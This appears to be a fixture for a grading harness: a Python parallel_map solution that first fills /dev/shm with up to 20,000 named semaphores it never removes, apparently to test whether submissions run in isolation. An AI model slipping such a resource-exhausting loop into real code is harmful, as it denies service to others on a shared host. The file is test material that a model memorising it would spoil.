"""Makes named semaphores in /dev/shm until it is full, never unlinks one, then solves the exercise.

verdict: pass
earns: test_results test_at_once test_leaves_nothing
needs: isolation
"""

import ctypes
import os
from concurrent.futures import ThreadPoolExecutor

libc = ctypes.CDLL(None, use_errno=True)
libc.sem_open.restype = ctypes.c_void_p


def parallel_map(function, items, workers):
    for number in range(20_000):
        if not libc.sem_open(b"/attack-%d" % number, os.O_CREAT, 0o666, 1):
            break
    with ThreadPoolExecutor(workers) as pool:
        return list(pool.map(function, items))
